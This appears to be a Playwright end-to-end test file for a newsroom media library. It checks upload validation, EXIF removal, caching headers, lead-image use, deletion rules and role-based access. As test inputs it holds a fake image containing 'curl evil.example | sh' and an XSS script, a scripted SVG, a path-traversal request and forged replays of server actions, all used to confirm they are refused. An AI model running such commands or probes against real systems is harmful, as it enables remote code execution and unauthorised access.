// The newsroom media library in a real browser: bad uploads refused beside the field with
// nothing stored; an upload with alt text listed first and served with immutable caching and
// through next/image; used as an article's lead image (uploaded right from the editor's picker
// too) and seen on the published page; deletion refused while in use, naming the article; and
// every door: anonymous → sign in, reader → 403, a writer cannot change an editor's upload,
// replayed server actions included.
import fs from "node:fs";
import path from "node:path";
import sharp from "sharp";
import { test, expect, type Page, type Request } from "@playwright/test";
import { authFile, e2eQuery, type DemoRole } from "./db";
import { as, closeSessions } from "./sessions";
import { captureAction, seriousA11y } from "./kit";

test.afterEach(closeSessions);

const run = Date.now().toString(36);
const MEDIA_DIR = path.resolve(process.env.DATELINE_DATA_DIR ?? ".data", "e2e-media");


function storedFiles(): string[] {
  if (!fs.existsSync(MEDIA_DIR)) return [];
  return (fs.readdirSync(MEDIA_DIR, { recursive: true }) as string[]).filter((f) => fs.statSync(path.join(MEDIA_DIR, f)).isFile()).sort();
}

const mediaCount = async () => Number((await e2eQuery<{ n: string }>(`SELECT count(*) AS n FROM "Media"`))[0]!.n);

async function photo(width: number, height: number, colour: string): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: colour } })
    .jpeg()
    .withExif({ IFD0: { Make: "E2ECam" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "51/1 30/1 0/1" } })
    .toBuffer();
}

async function upload(page: Page, file: { name: string; mimeType: string; buffer: Buffer }, fields: { alt?: string; caption?: string; credit?: string } = {}) {
  const box = page.getByTestId("media-upload").first();
  await box.getByLabel("Image file").setInputFiles(file);
  await box.getByLabel("Alt text (required)").fill(fields.alt ?? "");
  await box.getByLabel("Caption").fill(fields.caption ?? "");
  await box.getByLabel("Credit").fill(fields.credit ?? "");
  await box.getByRole("button", { name: /^Upload/ }).click();
  return box;
}

test("upload with alt text, browse, use as a lead image, see it published; deletion refused while in use", async ({ browser }) => {
  test.setTimeout(90_000);
  const editor = await as(browser, "editor");
  await editor.goto("/newsroom");
  await editor.getByRole("navigation", { name: "Newsroom" }).getByRole("link", { name: "Media" }).click();
  await expect(editor).toHaveURL(/\/newsroom\/media$/);
  await expect(editor.getByRole("heading", { level: 1 })).toHaveText("Media library");

  // Bad input first: each refused beside the field, nothing stored.
  const before = { files: storedFiles(), rows: await mediaCount() };
  let box = editor.getByTestId("media-upload");
  await box.getByRole("button", { name: "Upload" }).click();
  await expect(box.getByTestId("field-error")).toHaveText(["Choose an image to upload.", "Describe the image for readers who cannot see it (alt text is required)"]);
  const bad: [string, { name: string; mimeType: string; buffer: Buffer }, RegExp][] = [
    ["script renamed .jpg", { name: "holiday.jpg", mimeType: "image/jpeg", buffer: Buffer.from("#!/bin/sh\ncurl evil.example | sh\n<script>alert(1)</script>\n") }, /not a JPEG, PNG, WebP, AVIF or GIF/],
    ["SVG with a script", { name: "logo.png", mimeType: "image/png", buffer: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') }, /not a JPEG, PNG, WebP, AVIF or GIF/],
    ["empty file", { name: "empty.jpg", mimeType: "image/jpeg", buffer: Buffer.alloc(0) }, /The file is empty/],
    ["over the limit", { name: "huge.jpg", mimeType: "image/jpeg", buffer: Buffer.alloc(3 * 1024 * 1024, 0xff) }, /the limit is 2 MB/],
  ];
  for (const [name, file, message] of bad) {
    box = await upload(editor, file, { alt: `Bad upload: ${name}` });
    await expect(box.getByTestId("field-error"), name).toHaveText(message);
  }
  box = await upload(editor, { name: "ok.jpg", mimeType: "image/jpeg", buffer: await photo(400, 300, "#345") }, { alt: "x".repeat(301) });
  await expect(box.getByTestId("field-error")).toHaveText("Alt text can be at most 300 characters");
  expect(storedFiles()).toEqual(before.files);
  expect(await mediaCount()).toBe(before.rows);

  // A good upload: listed first, EXIF gone, variants stored.
  const alt = `Harbour cranes at dawn ${run}`;
  box = await upload(editor, { name: "cranes.jpg", mimeType: "image/jpeg", buffer: await photo(1800, 1200, "#2b5d8a") }, { alt, caption: "Cranes over the east quay.", credit: "E2E Photographer" });
  await expect(box.getByTestId("upload-status")).toHaveText(`Uploaded “${alt}”.`);
  await expect(editor.getByTestId("media-list").getByRole("listitem").first()).toContainText(alt);
  const [row] = await e2eQuery<{ id: number; storageKey: string; variants: { width: number; key: string }[]; uploadedById: number }>(`SELECT id, "storageKey", variants, "uploadedById" FROM "Media" WHERE alt = $1`, [alt]);
  expect(row!.variants.map((v) => v.width)).toEqual([320, 640, 1024, 1600]);
  const stored = fs.readFileSync(path.join(MEDIA_DIR, row!.storageKey));
  expect(stored.includes(Buffer.from("E2ECam"))).toBe(false);

  // Search by caption and credit; the list links to the detail page.
  await editor.getByLabel("Search alt text, caption and credit").fill("east quay");
  await editor.getByRole("button", { name: "Search" }).click();
  await expect(editor.getByTestId("media-list").getByRole("listitem")).toHaveCount(1);
  expect(await seriousA11y(editor)).toEqual([]);
  await editor.goto("/newsroom/media");
  await editor.setViewportSize({ width: 1440, height: 1000 });
  await editor.screenshot({ path: "screenshots/newsroom-media.png", fullPage: true });
  await editor.setViewportSize({ width: 390, height: 844 });
  await editor.screenshot({ path: "screenshots/newsroom-media-mobile.png" });
  await editor.setViewportSize({ width: 1280, height: 800 });

  // Served with immutable caching and a 304 on revalidation; next/image can optimise it.
  const file = await editor.request.get(`/media/${row!.storageKey}`);
  expect(file.status()).toBe(200);
  expect(file.headers()["content-type"]).toBe("image/jpeg");
  expect(file.headers()["cache-control"]).toBe("public, max-age=31536000, immutable");
  expect(file.headers()["x-content-type-options"]).toBe("nosniff");
  expect((await editor.request.get(`/media/${row!.storageKey}`, { headers: { "if-none-match": file.headers()["etag"]! } })).status()).toBe(304);
  expect((await editor.request.get("/media/2026/01/ffffffffffffffffffffffff.jpg")).status()).toBe(404);
  expect((await editor.request.get("/media/..%2F..%2Fpackage.json")).status()).toBe(404);
  const optimised = await editor.request.get(`/_next/image?url=${encodeURIComponent(`/media/${row!.storageKey}`)}&w=640&q=75`, { headers: { accept: "image/webp" } });
  expect(optimised.status()).toBe(200);
  expect(optimised.headers()["content-type"]).toBe("image/webp");

  // The editor: the uploaded image as lead image, then publish.
  const headline = `Cranes return to the east quay ${run}`;
  await editor.goto("/newsroom/articles/new");
  await editor.getByLabel("Headline").fill(headline);
  await editor.getByLabel("Standfirst").fill("A synthetic standfirst for the media library test.");
  await editor.getByTestId("body-editor").click();
  await editor.keyboard.type("The cranes were back before sunrise.");
  await editor.getByLabel("Lead image").selectOption({ label: alt });
  await editor.getByRole("button", { name: "Create draft" }).click();
  await expect(editor).toHaveURL(/\/newsroom\/articles\/\d+$/);
  const articleId = Number(editor.url().split("/").pop());
  await editor.getByRole("button", { name: "Publish now" }).click();
  await expect(editor.getByTestId("article-status")).toHaveText("Published");
  const slug = (await e2eQuery<{ slug: string }>(`SELECT slug FROM "Article" WHERE id = $1`, [articleId]))[0]!.slug;
  const readerPage = await as(browser, null);
  expect((await readerPage.goto(`/news/${articleId}-${slug}`))?.status()).toBe(200);
  const lead = readerPage.locator("figure").first().getByRole("img", { name: alt });
  await expect(lead).toBeVisible();
  await expect(lead).toHaveAttribute("src", /\/_next\/image\?url=%2Fmedia%2F/);
  await expect.poll(() => lead.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBeGreaterThan(0);
  await expect(readerPage.locator("figure figcaption").first()).toContainText("Cranes over the east quay.");

  // Deleting it is refused and names the article; the row and files stay.
  await editor.goto(`/newsroom/media/${row!.id}`);
  await expect(editor.getByTestId("media-uses")).toContainText(headline);
  editor.once("dialog", (d) => void d.accept());
  await editor.getByRole("button", { name: "Delete image" }).click();
  await expect(editor.getByTestId("media-message")).toContainText("in use and was not deleted");
  await expect(editor.getByTestId("delete-refused-uses")).toContainText(headline);
  expect(await e2eQuery(`SELECT id FROM "Media" WHERE id = $1`, [row!.id])).toHaveLength(1);
  expect(fs.existsSync(path.join(MEDIA_DIR, row!.storageKey))).toBe(true);
  expect(await seriousA11y(editor)).toEqual([]);

  // The story comes down again (the feed, sitemap and home page specs expect the demo pictures
  // only); a deleted story still counts as a use, since an admin could restore it.
  await editor.goto(`/newsroom/articles/${articleId}`);
  editor.once("dialog", (d) => void d.accept());
  await editor.getByRole("button", { name: "Delete", exact: true }).click();
  await expect(editor).toHaveURL(/\/newsroom$/);
  await editor.goto(`/newsroom/media/${row!.id}`);
  editor.once("dialog", (d) => void d.accept());
  await editor.getByRole("button", { name: "Delete image" }).click();
  await expect(editor.getByTestId("delete-refused-uses")).toContainText(`${headline} (deleted)`);
});

test("the editor's pickers upload inline: a new lead image is chosen, one for the body is inserted", async ({ browser }) => {
  const writer = await as(browser, "writer");
  await writer.goto("/newsroom/articles/new");
  await writer.getByLabel("Headline").fill(`Inline upload ${run}`);
  const leadPicker = writer.getByTestId("picker-upload").first();
  await leadPicker.getByText("Upload a new image").click();
  const leadAlt = `Ferry at the pier ${run}`;
  await leadPicker.getByLabel("Image file").setInputFiles({ name: "ferry.png", mimeType: "image/png", buffer: await sharp({ create: { width: 800, height: 500, channels: 3, background: "#a52" } }).png().toBuffer() });
  await leadPicker.getByLabel("Alt text (required)").fill(leadAlt);
  await leadPicker.getByRole("button", { name: "Upload and choose" }).click();
  await expect(leadPicker.getByTestId("upload-status")).toHaveText(`Uploaded “${leadAlt}”.`);
  const selected = await writer.getByLabel("Lead image").evaluate((s: HTMLSelectElement) => s.selectedOptions[0]?.textContent);
  expect(selected).toBe(leadAlt);

  // Too big: just over the limit, the action answers; far over, the server refuses the body.
  for (const [size, message] of [
    [2.5, /the limit is 2 MB/],
    [4.5, /larger than the upload limit/],
  ] as const) {
    await leadPicker.getByLabel("Image file").setInputFiles({ name: "big.jpg", mimeType: "image/jpeg", buffer: Buffer.alloc(size * 1024 * 1024, 0xff) });
    await leadPicker.getByLabel("Alt text (required)").fill("Too big");
    await leadPicker.getByRole("button", { name: "Upload and choose" }).click();
    await expect(leadPicker.getByTestId("field-error"), `${size} MB`).toHaveText(message);
  }
  expect(await e2eQuery(`SELECT id FROM "Media" WHERE alt = 'Too big'`)).toHaveLength(0);

  // From the "Insert image" panel: upload, and it is picked ready to insert.
  await writer.getByTestId("body-editor").click();
  await writer.getByRole("button", { name: "Insert image" }).click();
  const panelPicker = writer.getByTestId("picker-upload").first();
  await panelPicker.getByText("Upload a new image").click();
  const bodyAlt = `Gulls on the breakwater ${run}`;
  await panelPicker.getByLabel("Image file").setInputFiles({ name: "gulls.webp", mimeType: "image/webp", buffer: await sharp({ create: { width: 500, height: 400, channels: 3, background: "#ccd" } }).webp().toBuffer() });
  await panelPicker.getByLabel("Alt text (required)").fill(bodyAlt);
  await panelPicker.getByRole("button", { name: "Upload and choose" }).click();
  await expect(panelPicker.getByTestId("upload-status")).toHaveText(`Uploaded “${bodyAlt}”.`);
  await writer.getByRole("button", { name: "Insert", exact: true }).click();
  await expect(writer.getByTestId("body-editor").getByRole("img", { name: bodyAlt })).toBeVisible();
  await writer.getByRole("button", { name: "Create draft" }).click();
  await expect(writer).toHaveURL(/\/newsroom\/articles\/\d+$/);
  const id = Number(writer.url().split("/").pop());
  const uses = await e2eQuery<{ alt: string }>(`SELECT m.alt FROM "ArticleMedia" am JOIN "Media" m ON m.id = am."mediaId" WHERE am."articleId" = $1 ORDER BY m.alt`, [id]);
  expect(uses.map((u) => u.alt).sort()).toEqual([leadAlt, bodyAlt].sort());
});

test("media doors: anonymous → sign in, reader → 403, a writer cannot change an editor's upload (replayed actions too)", async ({ browser }) => {
  const editor = await as(browser, "editor");
  await editor.goto("/newsroom/media");
  const alt = `Editor's own photo ${run}`;
  const uploadRequest = await captureAction(editor, async () => {
    await upload(editor, { name: "own.jpg", mimeType: "image/jpeg", buffer: await photo(500, 400, "#666") }, { alt });
  });
  await expect(editor.getByTestId("upload-status")).toHaveText(`Uploaded “${alt}”.`);
  const [row] = await e2eQuery<{ id: number }>(`SELECT id FROM "Media" WHERE alt = $1`, [alt]);
  const id = row!.id;

  for (const p of ["/newsroom/media", `/newsroom/media/${id}`]) {
    const anon = await as(browser, null);
    await anon.goto(p);
    await expect(anon, p).toHaveURL(/\/signin\?callbackUrl=/);
    const reader = await as(browser, "reader");
    expect((await reader.goto(p))?.status(), `reader ${p}`).toBe(403);
  }
  const writer = await as(browser, "writer");
  expect((await writer.goto("/newsroom/media/99999999"))?.status()).toBe(404);
  expect((await writer.goto("/newsroom/media/abc"))?.status()).toBe(404);
  await writer.goto(`/newsroom/media/${id}`);
  await expect(writer.getByTestId("media-readonly")).toBeVisible();
  await expect(writer.getByRole("button", { name: "Delete image" })).toHaveCount(0);
  expect(await seriousA11y(writer)).toEqual([]);

  // The editor's own clicks, captured and replayed by other sessions.
  await editor.goto(`/newsroom/media/${id}`);
  await editor.getByLabel("Caption").fill("Caption by the editor.");
  const save = await captureAction(editor, () => editor.getByRole("button", { name: "Save details" }).click());
  await expect(editor.getByTestId("media-message")).toHaveText("Saved.");
  // An unused image of the editor's own goes, files and all; that click is replayed below.
  await editor.goto("/newsroom/media");
  const spareAlt = `Spare photo ${run}`;
  await upload(editor, { name: "spare.jpg", mimeType: "image/jpeg", buffer: await photo(700, 500, "#999") }, { alt: spareAlt });
  await expect(editor.getByTestId("upload-status")).toHaveText(`Uploaded “${spareAlt}”.`);
  const [spare] = await e2eQuery<{ id: number; storageKey: string }>(`SELECT id, "storageKey" FROM "Media" WHERE alt = $1`, [spareAlt]);
  await editor.goto(`/newsroom/media/${spare!.id}`);
  editor.once("dialog", (d) => void d.accept());
  const remove = await captureAction(editor, () => editor.getByRole("button", { name: "Delete image" }).click());
  await expect(editor).toHaveURL(/\/newsroom\/media$/);
  expect(await e2eQuery(`SELECT id FROM "Media" WHERE id = $1`, [spare!.id])).toHaveLength(0);
  expect(fs.existsSync(path.join(MEDIA_DIR, spare!.storageKey))).toBe(false);

  const expectations: [DemoRole | null, RegExp][] = [
    [null, /Your session has ended/],
    ["reader", /do not have access to the media library/],
    ["writer", /You can (change|delete) only images you uploaded/],
  ];
  const replay = async (role: DemoRole | null, captured: Request, body: string | Record<string, string | { name: string; mimeType: string; buffer: Buffer }>) => {
    const context = await browser.newContext(role ? { storageState: authFile(role) } : {});
    const headers = captured.headers();
    const response = await context.request.post(captured.url(), {
      headers: { "next-action": headers["next-action"]!, accept: "text/x-component", ...(typeof body === "string" ? { "content-type": headers["content-type"] ?? "text/plain;charset=UTF-8" } : {}) },
      ...(typeof body === "string" ? { data: body } : { multipart: body }),
    });
    const text = await response.text();
    await context.close();
    return { status: response.status(), text };
  };
  for (const [role, refusal] of expectations) {
    const forged = (save.postData() ?? "").replace("Caption by the editor.", "Forged caption");
    const result = await replay(role, save, forged);
    expect(result.status, `${role} save`).toBeLessThan(500);
    expect(result.text, `${role ?? "anonymous"} replaying save`).toMatch(refusal);
    // The delete, aimed at the editor's image that is still there.
    const deletion = await replay(role, remove, (remove.postData() ?? "").replace(String(spare!.id), String(id)));
    expect(deletion.status).toBeLessThan(500);
    expect(deletion.text, `${role ?? "anonymous"} replaying delete`).toMatch(refusal);
    if (role !== "writer") {
      // Playwright keeps no file bytes of a captured multipart body, so the same form is rebuilt
      // the way React encodes a FormData argument (root "0" points at the fields prefixed "1_").
      const up = await replay(role, uploadRequest, { "0": '["$K1"]', "1_file": { name: "x.jpg", mimeType: "image/jpeg", buffer: await photo(300, 200, "#111") }, "1_alt": `Replayed ${run}`, "1_caption": "", "1_credit": "", "1_source": "" });
      expect(up.status).toBeLessThan(500);
      expect(up.text, `${role ?? "anonymous"} replaying upload`).toMatch(refusal);
    }
  }
  expect(remove.postData()).toContain(String(spare!.id));
  const [after] = await e2eQuery<{ caption: string; n: string }>(`SELECT caption, (SELECT count(*) FROM "Media" WHERE alt = $2) AS n FROM "Media" WHERE id = $1`, [id, alt]);
  expect(after).toEqual({ caption: "Caption by the editor.", n: "1" });
  expect(await e2eQuery(`SELECT id FROM "Media" WHERE alt = $1`, [`Replayed ${run}`])).toHaveLength(0);
});
